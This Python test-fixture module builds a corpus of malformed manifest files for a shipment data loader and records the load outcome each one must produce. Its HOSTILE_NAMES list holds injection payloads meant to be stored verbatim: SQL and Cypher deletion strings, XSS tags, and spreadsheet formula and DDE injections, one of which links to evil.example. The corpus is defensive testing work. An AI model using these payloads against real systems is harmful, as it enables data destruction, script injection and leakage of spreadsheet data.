"""The bad-input corpus: hostile and broken manifest files, each with its documented outcome.

Every case builds its file into a folder (large ones are generated, never committed) and
states what a load must do with it: load it, quarantine named rows with a reason naming the
column, or refuse the whole file with an error naming the file (and line or byte offset)
while writing nothing. ``tests/badinput/test_corpus.py`` checks every case;
``docs/bad-input.md`` holds the table this module prints.

    python -m tests.badinput.corpus OUT_DIR     # write every case's file into OUT_DIR
    python -m tests.badinput.corpus --markdown  # print the table for docs/bad-input.md
"""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

HEADER = ("shipment_id", "arrival_date", "declared_value_usd", "shipper_name", "consignee_name")
ROWS: tuple[tuple[str, ...], ...] = (
    ("BI-1", "2026-03-01", "24.99", "Shenzhen Huayu Trading Co., Ltd.", "John Smith"),
    ("BI-2", "2026-03-02", "799.00", "Guangzhou Best Export", "María José Núñez"),
    ("BI-3", "2026-03-03", "5", "Yiwu Star Goods", "李雷"),
)
STORED_ID = "BI-STORED"  # a shipment id the test store already holds from an earlier load
MB = 1024 * 1024

# Names that would do harm if any layer executed or rendered them instead of storing them.
HOSTILE_NAMES = (
    "Robert'); DROP TABLE shipments;--",
    "x' OR '1'='1",
    "a'}) MATCH (n) DETACH DELETE n //",
    '" }] CALL db.labels() YIELD label RETURN label //',
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


@dataclass(frozen=True)
class Case:
    """One bad input and what a load must do with it."""

    file: str
    what: str
    outcome: str  # "loaded" | "quarantined" | "error"
    build: Callable[[Path], None]
    read: int = 0
    loaded: int = 0
    quarantined: int = 0
    duplicate: int = 0
    # (row, column, fragment of the reason) of quarantine entries that must exist
    reasons: tuple[tuple[int, str, str], ...] = ()
    error: tuple[str, ...] = ()  # fragments the whole-file error must contain
    encoding: str | None = None
    mapping: str | None = None  # TOML text of a mapping file to load with
    # values that must be stored verbatim: (shipment id, field, value)
    stored: tuple[tuple[str, str, str], ...] = ()

    @property
    def detail(self) -> str:
        if self.outcome == "error":
            return "error naming the file: " + "; ".join(f"`{e}`" for e in self.error)
        counts = f"{self.read} read = {self.loaded} loaded + {self.quarantined} quarantined"
        counts += f" + {self.duplicate} duplicate"
        reasons = "; ".join(f"row {r} `{c}`: {why}" for r, c, why in self.reasons)
        return counts + (f"; {reasons}" if reasons else "")


def _csv_text(rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER, **kw: Any) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", **kw)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def _write(name: str, text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        (folder / name).write_bytes(text.encode(encoding))

    return build


def _write_bytes(name: str, make: Callable[[], bytes]) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        (folder / name).write_bytes(make())

    return build


def _jsonl(rows: Sequence[dict[str, Any] | str]) -> str:
    return "".join(
        (r if isinstance(r, str) else json.dumps(r, ensure_ascii=False)) + "\n" for r in rows
    )


def _record(row: Sequence[str]) -> dict[str, str]:
    return dict(zip(HEADER, row, strict=True))


def _record_lines(*rows: Sequence[str]) -> str:
    return _jsonl([_record(r) for r in rows])


def _parquet(name: str, table: Callable[[], pa.Table]) -> Callable[[Path], None]:
    def build(folder: Path) -> None:
        pq.write_table(table(), folder / name)

    return build


def _wrong_types() -> pa.Table:
    return pa.table(
        {
            "shipment_id": ["PQ-1", "PQ-2", "PQ-3", "PQ-4"],
            "arrival_date": pa.array([20260301, 20260302, 20260303, 20260304], pa.int64()),
            "declared_value_usd": ["12.5", "abc", "7", "true"],
            "shipper_name": ["A Co", "B Co", "C Co", "D Co"],
            "consignee_name": ["W", "X", "Y", "Z"],
            "quantity": pa.array([1.0, 2.0, 2.5, 3.0], pa.float64()),
        }
    )


def _typed() -> pa.Table:
    import datetime as dt
    from decimal import Decimal

    return pa.table(
        {
            "shipment_id": ["PT-1", "PT-2"],
            "arrival_date": pa.array([dt.date(2026, 3, 1), dt.date(2026, 3, 2)], pa.date32()),
            "declared_value_usd": pa.array(
                [Decimal("24.99"), Decimal("5.00")], pa.decimal128(9, 2)
            ),
            "shipper_name": ["A Co", None],
            "consignee_name": ["W", "X"],
            "quantity": pa.array([3, None], pa.int32()),
            "tags": pa.array([["a", "b"], []], pa.list_(pa.string())),
            "dims": pa.array(
                [{"l": 1, "w": 2}, None], pa.struct([("l", pa.int8()), ("w", pa.int8())])
            ),
        }
    )


def _wide_csv() -> bytes:
    extra = [f"col_{i}" for i in range(10_000 - len(HEADER))]
    return _csv_text(
        [(*r, *(str(i) for i in range(len(extra)))) for r in ROWS], (*HEADER, *extra)
    ).encode()


def _one_mb_csv() -> bytes:
    big = ("BI-4", "2026-03-04", "1", "x" * MB, "Jane Roe")
    return _csv_text([*ROWS, big]).encode()


def _one_mb_jsonl() -> bytes:
    big = {**_record(ROWS[0]), "shipment_id": "BI-4", "description": "y" * MB}
    return _jsonl([*map(_record, ROWS), big]).encode()


def _utf16_no_bom() -> bytes:
    return _csv_text(ROWS).encode("utf-16-le")


def _nul_byte() -> bytes:
    text = _csv_text(ROWS).encode()
    return text.replace(b"Yiwu", b"Yi\x00wu")


def _truncated_last_line() -> bytes:
    text = _csv_text([*ROWS, ("BI-4", "2026-03-04", "12", "Cut Off Trading", "Jane Roe")])
    return text[: text.rindex(",Cut Off")].encode()  # the copy stopped mid-row, no newline


def _truncated_in_quote() -> bytes:
    text = _csv_text([*ROWS, ("BI-4", "2026-03-04", "12", "Cut, Off Trading", "Jane Roe")])
    return text[: text.rindex(" Off")].encode()  # stopped inside a quoted field


def _cp1252_as_latin1() -> bytes:
    rows = [*ROWS[:2], ("BI-3", "2026-03-03", "5", "\u201cBest\u201d Export", "Jane Roe")]
    return _csv_text(rows).encode("cp1252")


CASES: tuple[Case, ...] = (
    Case(
        "semicolon_delimiter.csv",
        "`;`-delimited file named .csv",
        "error",
        _write("semicolon_delimiter.csv", _csv_text(ROWS, delimiter=";")),
        error=("missing required column", "';'-delimited", "source.delimiter"),
    ),
    Case(
        "semicolon_delimiter_mapped.csv",
        'the same file with a mapping that sets `delimiter = ";"`',
        "loaded",
        _write("semicolon_delimiter_mapped.csv", _csv_text(ROWS, delimiter=";")),
        read=3,
        loaded=3,
        mapping='[source]\ndelimiter = ";"\n[columns]\n'
        + "".join(f'{c} = "{c}"\n' for c in HEADER),
    ),
    Case(
        "tab_row.csv",
        "one row written with tabs in a comma file",
        "quarantined",
        _write("tab_row.csv", _csv_text(ROWS[:2]) + "\t".join(ROWS[2]) + "\n"),
        read=3,
        loaded=2,
        quarantined=1,
        reasons=((3, "(row)", "row has 1 fields, the header has 5"),),
    ),
    Case(
        "extra_field.csv",
        "a row with a trailing delimiter (one field too many)",
        "quarantined",
        _write("extra_field.csv", _csv_text(ROWS) + ",".join(("BI-4", *ROWS[1][1:])) + ",\n"),
        read=4,
        loaded=3,
        quarantined=1,
        reasons=((4, "(row)", "row has 6 fields, the header has 5"),),
    ),
    Case(
        "quoted_newlines.csv",
        "quoted values holding LF and CRLF line breaks, then a bad row",
        "quarantined",
        _write(
            "quoted_newlines.csv",
            _csv_text(
                [
                    ("BI-1", "2026-03-01", "1", "Unit 5\nBuilding 2 Trading", "A\r\nB"),
                    *ROWS[1:],
                    ("BI-4", "03/04/2026", "1", "Late Co", "C"),
                ]
            ),
        ),
        read=4,
        loaded=3,
        quarantined=1,
        reasons=((4, "arrival_date", "is not an ISO date"),),
        stored=(
            ("BI-1", "shipper_name", "Unit 5\nBuilding 2 Trading"),
            ("BI-1", "consignee_name", "A\r\nB"),
        ),
    ),
    Case(
        "blank_lines.csv",
        "blank lines between rows",
        "loaded",
        _write("blank_lines.csv", _csv_text(ROWS).replace("\n", "\n\n")),
        read=3,
        loaded=3,
    ),
    Case(
        "utf8_bom.csv",
        "UTF-8 with a byte order mark",
        "loaded",
        _write("utf8_bom.csv", _csv_text(ROWS), "utf-8-sig"),
        read=3,
        loaded=3,
        stored=(("BI-3", "consignee_name", "李雷"),),
    ),
    Case(
        "utf8_bom.jsonl",
        "JSON Lines with a byte order mark",
        "loaded",
        _write("utf8_bom.jsonl", _jsonl([_record(r) for r in ROWS]), "utf-8-sig"),
        read=3,
        loaded=3,
    ),
    Case(
        "latin1.csv",
        "Latin-1 bytes, no `--encoding`",
        "error",
        _write("latin1.csv", _csv_text(ROWS[:2]), "latin-1"),
        error=("not decodable as UTF-8", "(line 3)", "--encoding"),
    ),
    Case(
        "latin1_declared.csv",
        "Latin-1 bytes with `--encoding latin-1`",
        "loaded",
        _write("latin1_declared.csv", _csv_text(ROWS[:2]), "latin-1"),
        read=2,
        loaded=2,
        encoding="latin-1",
        stored=(("BI-2", "consignee_name", "María José Núñez"),),
    ),
    Case(
        "cp1252_as_latin1.csv",
        "cp1252 curly quotes read with `--encoding latin-1`",
        "quarantined",
        _write_bytes("cp1252_as_latin1.csv", _cp1252_as_latin1),
        read=3,
        loaded=2,
        quarantined=1,
        encoding="latin-1",
        reasons=((3, "shipper_name", "U+0093 at position 1 (cp1252 text read as latin-1?"),),
    ),
    Case(
        "utf16.csv",
        "UTF-16 with a byte order mark, no `--encoding`",
        "error",
        _write("utf16.csv", _csv_text(ROWS), "utf-16"),
        error=("UTF-16/UTF-32 byte order mark", "--encoding utf-16"),
    ),
    Case(
        "utf16_declared.csv",
        "UTF-16 with `--encoding utf-16`",
        "loaded",
        _write("utf16_declared.csv", _csv_text(ROWS), "utf-16"),
        read=3,
        loaded=3,
        encoding="utf-16",
        stored=(("BI-3", "consignee_name", "李雷"),),
    ),
    Case(
        "utf16_no_bom.csv",
        "UTF-16-LE without a byte order mark, no `--encoding`",
        "error",
        _write_bytes("utf16_no_bom.csv", _utf16_no_bom),
        error=("NUL byte at byte offset 1", "--encoding utf-16-le"),
    ),
    Case(
        "utf16_declared.jsonl",
        "UTF-16 JSON Lines with `--encoding utf-16`",
        "loaded",
        _write("utf16_declared.jsonl", _jsonl([_record(r) for r in ROWS]), "utf-16"),
        read=3,
        loaded=3,
        encoding="utf-16",
    ),
    Case(
        "nul_byte.csv",
        "a raw NUL byte inside a value",
        "error",
        _write_bytes("nul_byte.csv", _nul_byte),
        error=("binary content", "NUL byte at byte offset"),
    ),
    Case(
        "control_chars.jsonl",
        "JSON-escaped NUL and a terminal escape (`\\u001b[2J`) in names",
        "quarantined",
        _write(
            "control_chars.jsonl",
            _jsonl(
                [
                    _record(ROWS[0]),
                    {**_record(ROWS[1]), "shipper_name": "Null\u0000Byte Co"},
                    {**_record(ROWS[2]), "consignee_name": "\u001b[2JCleared"},
                ]
            ),
        ),
        read=3,
        loaded=1,
        quarantined=2,
        reasons=(
            (2, "shipper_name", "control character U+0000 at position 5"),
            (3, "consignee_name", "control character U+001B at position 1"),
        ),
    ),
    Case(
        "surrogates.jsonl",
        "unpaired UTF-16 surrogates escaped in JSON (`\\ud800`), in a value and a key",
        "quarantined",
        _write(
            "surrogates.jsonl",
            _record_lines(ROWS[0])
            + '{"shipment_id": "S-2", "arrival_date": "2026-03-01", "declared_value_usd": "1",'
            ' "shipper_name": "Half\\ud800Pair", "consignee_name": "B"}\n'
            + '{"shipment_id": "S-3", "arrival_date": "2026-03-01", "declared_value_usd": "1",'
            ' "shipper_name": "A", "consignee_name": "B", "note\\udc00": "x"}\n',
        ),
        read=3,
        loaded=1,
        quarantined=2,
        reasons=(
            (2, "shipper_name", "value holds an unpaired surrogate U+D800"),
            (3, "note\\udc00", "column name holds an unpaired surrogate U+DC00"),
        ),
    ),
    Case(
        "field_1mb.csv",
        "a 1 MiB shipper name (generated)",
        "quarantined",
        _write_bytes("field_1mb.csv", _one_mb_csv),
        read=4,
        loaded=3,
        quarantined=1,
        reasons=((4, "shipper_name", "value of 1,048,576 characters is longer than the 131,072"),),
    ),
    Case(
        "field_1mb.jsonl",
        "a 1 MiB description in JSON Lines (generated)",
        "quarantined",
        _write_bytes("field_1mb.jsonl", _one_mb_jsonl),
        read=4,
        loaded=3,
        quarantined=1,
        reasons=((4, "description", "value of 1,048,576 characters"),),
    ),
    Case(
        "columns_10000.csv",
        "10,000 columns (generated)",
        "loaded",
        _write_bytes("columns_10000.csv", _wide_csv),
        read=3,
        loaded=3,
        stored=(("BI-1", "extra:col_9994", "9994"),),
    ),
    Case(
        "duplicate_header.csv",
        "a column name twice in the header",
        "error",
        _write("duplicate_header.csv", _csv_text(ROWS, (*HEADER[:4], "shipment_id"))),
        error=("column 'shipment_id' appears twice in the header",),
    ),
    Case(
        "duplicate_header_spaced.csv",
        "the same name twice, once padded with spaces",
        "error",
        _write("duplicate_header_spaced.csv", _csv_text(ROWS, (*HEADER[:4], " shipment_id "))),
        error=("appears twice",),
    ),
    Case(
        "truncated_last_line.csv",
        "the last line cut mid-row (no newline)",
        "quarantined",
        _write_bytes("truncated_last_line.csv", _truncated_last_line),
        read=4,
        loaded=3,
        quarantined=1,
        reasons=((4, "(row)", "row has 3 fields, the header has 5"),),
    ),
    Case(
        "truncated_in_quote.csv",
        "the last line cut inside a quoted value",
        "error",
        _write_bytes("truncated_in_quote.csv", _truncated_in_quote),
        error=("malformed CSV in the record starting on line 5", "unbalanced quote"),
    ),
    Case(
        "broken.jsonl",
        "broken JSON lines: bad syntax, an array, a number, 100,000 nested brackets, a cut"
        " last line",
        "quarantined",
        _write(
            "broken.jsonl",
            _jsonl(
                [
                    _record(ROWS[0]),
                    '{"shipment_id": "J-2", "arrival_date": }',
                    json.dumps(list(ROWS[1])),
                    "42",
                    "[" * 100_000 + "]" * 100_000,
                    _record(ROWS[2]),
                ]
            )
            + '{"shipment_id": "J-7", "arrival_da',
        ),
        read=7,
        loaded=2,
        quarantined=5,
        reasons=(
            (2, "(row)", "not valid JSON: Expecting value"),
            (3, "(row)", "not a JSON object but a list"),
            (4, "(row)", "not a JSON object but a int"),
            (5, "(row)", "not valid JSON"),
            (7, "(row)", "not valid JSON: Unterminated string"),
        ),
    ),
    Case(
        "wrong_types.parquet",
        "Parquet with an integer date, text and boolean-like values, a fractional quantity",
        "quarantined",
        _parquet("wrong_types.parquet", _wrong_types),
        read=4,
        loaded=0,
        quarantined=4,
        reasons=(
            (1, "arrival_date", "'20260301' is not an ISO date"),
            (2, "declared_value_usd", "'abc' is not a decimal number"),
            (3, "quantity", "'2.5' is not a whole number"),
            (4, "declared_value_usd", "'true' is not a decimal number"),
        ),
    ),
    Case(
        "typed.parquet",
        "Parquet with date, decimal, integer, list and struct columns and a null name",
        "quarantined",
        _parquet("typed.parquet", _typed),
        read=2,
        loaded=1,
        quarantined=1,
        reasons=((2, "shipper_name", "required value is missing"),),
        stored=(("PT-1", "extra:tags", '["a", "b"]'), ("PT-1", "extra:dims", '{"l": 1, "w": 2}')),
    ),
    Case(
        "bad_values.csv",
        "a negative value, a non-date, a non-number, an unknown outcome, a missing name",
        "quarantined",
        _write(
            "bad_values.csv",
            _csv_text(
                [
                    ("V-1", "2026-03-01", "-5", "A", "B", ""),
                    ("V-2", "2026-02-30", "5", "A", "B", ""),
                    ("V-3", "2026-03-01", "1e999", "A", "B", ""),
                    ("V-4", "2026-03-01", "5", "A", "B", "burned"),
                    ("V-5", "2026-03-01", "5", "", "B", ""),
                    ("V-6", "2026-03-01", "5", "A", "B", "SEIZED"),
                ],
                (*HEADER, "inspection_outcome"),
            ),
        ),
        read=6,
        loaded=1,
        quarantined=5,
        reasons=(
            (1, "declared_value_usd", "'-5' is negative"),
            (2, "arrival_date", "'2026-02-30' is not a real date"),
            (3, "declared_value_usd", "'1e999' is out of range"),
            (4, "inspection_outcome", "'burned' is not one of"),
            (5, "shipper_name", "required value is missing or empty"),
        ),
    ),
    Case(
        "repeated_ids.csv",
        "an id twice in the file, and an id another load already stored",
        "quarantined",
        _write(
            "repeated_ids.csv",
            _csv_text([ROWS[0], ROWS[1], ROWS[0], (STORED_ID, *ROWS[2][1:])]),
        ),
        read=4,
        loaded=2,
        quarantined=1,
        duplicate=1,
        reasons=((3, "shipment_id", "shipment_id 'BI-1' repeats row 1 of this file"),),
    ),
    Case(
        "hostile_names.csv",
        "names carrying SQL, Cypher, HTML/JS and spreadsheet formulas",
        "loaded",
        _write(
            "hostile_names.csv",
            _csv_text(
                [
                    (f"H-{i}", "2026-03-01", "5", name, HOSTILE_NAMES[-1 - i])
                    for i, name in enumerate(HOSTILE_NAMES)
                ]
            ),
        ),
        read=len(HOSTILE_NAMES),
        loaded=len(HOSTILE_NAMES),
        stored=tuple((f"H-{i}", "shipper_name", n) for i, n in enumerate(HOSTILE_NAMES)),
    ),
    Case(
        "empty.csv",
        "an empty file",
        "error",
        _write("empty.csv", ""),
        error=("empty file",),
    ),
    Case(
        "header_only.csv",
        "a header and no rows",
        "loaded",
        _write("header_only.csv", _csv_text([])),
    ),
)


def build_all(folder: Path) -> list[Path]:
    """Write every case's file (and mapping, if any) into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for case in CASES:
        case.build(folder)
        if case.mapping is not None:
            (folder / f"{case.file}.toml").write_text(case.mapping, encoding="utf-8")
        paths.append(folder / case.file)
    return paths


def markdown_table() -> str:
    """The outcome table of docs/bad-input.md, one row per case."""
    lines = ["| file | input | outcome | detail |", "|---|---|---|---|"]
    for case in CASES:
        cell = case.detail.replace("|", "\\|")
        lines.append(f"| `{case.file}` | {case.what} | {case.outcome} | {cell} |")
    return "\n".join(lines) + "\n"


def main(argv: Sequence[str]) -> None:
    if argv == ["--markdown"]:
        sys.stdout.write(markdown_table())
    elif len(argv) == 1:
        for path in build_all(Path(argv[0])):
            print(path)
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
